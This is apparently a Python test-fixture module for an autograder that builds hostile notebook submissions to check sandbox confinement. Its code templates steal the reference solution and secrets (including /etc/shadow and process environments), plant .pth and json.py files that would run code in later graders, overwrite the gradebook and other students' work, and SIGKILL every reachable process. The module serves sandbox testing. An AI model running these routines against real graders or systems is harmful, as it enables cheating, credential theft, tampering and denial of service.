"""Hostile submissions for the confinement matrix (tests/test_confinement_matrix.py), built from
the release as students' notebooks are. Each attacks from a top-level cell (while the notebook
runs) and from inside a step's body (while the checks run, in clean rooms), by several routes,
so that a defence tuned to one route fails the test.

- THIEF: every step finds the reference (`solutions/pytorch_slope.py`) through the import
  system (`find_spec("autograder")`), the working folder's parents, `/proc/self/cwd`, every
  `/proc/<pid>/cwd` and `/proc/<pid>/root`, and the kit's path written into the notebook, and
  answers with it; it scores only if one route works.
- SPY: raises, as its error message (which feedback shows), what it could read of the grading
  secret, the checks, the gradebook, another student's notebook and the grader's environment.
- VANDAL: writes into the kit (the reference, a check, the secret), the venv (a `.pth` that
  would run in every later grader), the course (gradebook, another student's notebook), the
  working folder and every temporary folder (a `json.py` a later grader would import).
- KILLER: SIGKILLs every process it can name: `kill(-1)`, its parent, every pid in /proc, and
  a sentinel process of the grading account whose pid the test writes into the notebook.

And two correct notebooks that do odd things the grader must take in its stride (full marks, no
integrity flag): FORKER's `forward` forks inside a check, and the copy returns from the step too;
SPINNER leaves a thread spinning, which runs beside the checks on the notebook's own state.
"""
from __future__ import annotations

import nbformat

from autograder.release.synthetic import make_submission

STEPS = ("forward", "criterion", "update", "zero_grad")
SIGNATURES = {"forward": "x, w", "criterion": "yhat, y", "update": "w, lr", "zero_grad": "w"}

_FIND_REFERENCE = '''
def _reference():
    import importlib.util, os
    roots = [{kit!r}, os.getcwd(), "/proc/self/cwd"]
    try:
        spec = importlib.util.find_spec("autograder")
        if spec is not None and spec.origin:
            roots.append(os.path.dirname(os.path.dirname(spec.origin)))
    except Exception:
        pass
    try:
        for entry in os.listdir("/proc"):
            if entry.isdigit():
                roots += ["/proc/%s/cwd" % entry, "/proc/%s/root%s" % (entry, {kit!r})]
    except Exception:
        pass
    seen = set()
    for root in roots:
        for _ in range(8):
            path = os.path.join(root, "solutions", "pytorch_slope.py")
            if path not in seen:
                seen.add(path)
                try:
                    source = open(path).read()
                except Exception:
                    source = None
                if source:
                    found = {{}}
                    exec(compile(source, path, "exec"), found)
                    return found
            root = os.path.dirname(root)
    raise RuntimeError("no reference found")
'''

_READ_SECRETS = '''
def _loot():
    import glob, os
    paths = [{kit!r} + "/autograder/grading.json", {kit!r} + "/solutions/pytorch_slope.py",
             {kit!r} + "/autograder/checks/test_update.py", {course!r} + "/gradebook.db",
             {victim!r}, "/proc/1/environ", "/etc/shadow"]
    paths += glob.glob({course!r} + "/submitted/*/pytorch_slope/*.ipynb")
    got = []
    for path in paths:
        try:
            with open(path, "rb") as handle:
                got.append(handle.read(4000).decode("latin-1"))
        except Exception:
            pass
    return " | ".join(got)
'''

_WRITE_EVERYWHERE = '''
def _vandalise():
    import glob, os, sys, site
    targets = [{kit!r} + "/solutions/pytorch_slope.py", {kit!r} + "/autograder/checks/test_forward.py",
               {kit!r} + "/autograder/grading.json", {course!r} + "/gradebook.db", {victim!r}]
    targets += [os.path.join(p, "{token}.pth") for p in sys.path + [sys.prefix, {venv!r}] if p]
    targets += [os.path.join(p, "{token}", "json.py") for p in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", {kit!r})]
    targets += [os.path.join(p, "json.py") for p in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/run/autograder")]
    targets += glob.glob({course!r} + "/submitted/*/pytorch_slope/*.ipynb")
    for path in targets:
        for mode in ("a", "w"):
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, mode) as handle:
                    handle.write("import os; os.system('touch {token}')  # {token}\\n")
            except Exception:
                pass
'''

_KILL_EVERYONE = '''
def _kill_everyone():
    import os, signal
    for pid in (-1, os.getppid(), {sentinel}, 1):
        try:
            os.kill(pid, signal.SIGKILL)
        except Exception:
            pass
    try:
        for entry in os.listdir("/proc"):
            if entry.isdigit() and int(entry) != os.getpid():
                try:
                    os.kill(int(entry), signal.SIGKILL)
                except Exception:
                    pass
    except Exception:
        pass
'''


def _steps_calling(helper: str, *, returns: bool) -> dict[str, str]:
    """Every step's cell replaced by one that calls `helper()` (and, for the thief, answers with
    the reference's step)."""
    cells = {}
    for step in STEPS:
        args = SIGNATURES[step]
        body = f"    return _reference()[{step!r}]({args})" if returns else f"    {helper}()\n    raise RuntimeError('x')"
        cells[step] = f"def {step}({args}):\n{body}"
    return cells


def thief(kit: str) -> nbformat.NotebookNode:
    helper = _FIND_REFERENCE.format(kit=kit)
    return make_submission(_steps_calling("_reference", returns=True), extra_cells=[helper], solved=False)


def spy(kit: str, course: str, victim: str) -> nbformat.NotebookNode:
    helper = _READ_SECRETS.format(kit=kit, course=course, victim=victim)
    overrides = {step: f"def {step}({SIGNATURES[step]}):\n    raise RuntimeError(_loot())" for step in STEPS}
    return make_submission(overrides, extra_cells=[helper, "print(_loot())\nraise RuntimeError(_loot())"], solved=False)


def vandal(kit: str, course: str, victim: str, venv: str, token: str) -> nbformat.NotebookNode:
    helper = _WRITE_EVERYWHERE.format(kit=kit, course=course, victim=victim, venv=venv, token=token)
    return make_submission(_steps_calling("_vandalise", returns=False), extra_cells=[helper, "_vandalise()"], solved=False)


def killer(sentinel: int) -> nbformat.NotebookNode:
    helper = _KILL_EVERYONE.format(sentinel=sentinel)
    return make_submission(_steps_calling("_kill_everyone", returns=False), extra_cells=[helper, "_kill_everyone()"],
                           solved=False)


# What must never appear in anything a student reads: a line of each secret file.
def secret_markers(kit: str) -> dict[str, str]:
    return {"grading secret": '"grading_seed"', "reference": "Reference implementation of the four student steps",
            "checks": "def test_update(", "gradebook": "SQLite format 3"}


def forker() -> nbformat.NotebookNode:
    """Correct steps; `forward` forks at its first call from a check (once a process, not at the
    notebook's own calls), and both processes return from it."""
    forward = ("def forward(x, w):\n    import os, sys\n"
               "    if not getattr(forward, 'forked', False) and 'probes' in sys._getframe(1).f_code.co_filename:\n"
               "        forward.forked = True\n        os.fork()\n    return w * x\n")
    return make_submission({"forward": forward})


def spinner() -> nbformat.NotebookNode:
    """Correct steps, and a daemon thread that spins from a top-level cell to the end."""
    return make_submission(extra_cells=["import threading\n"
                                        "threading.Thread(target=lambda: [None for _ in iter(int, 1)], daemon=True).start()"])
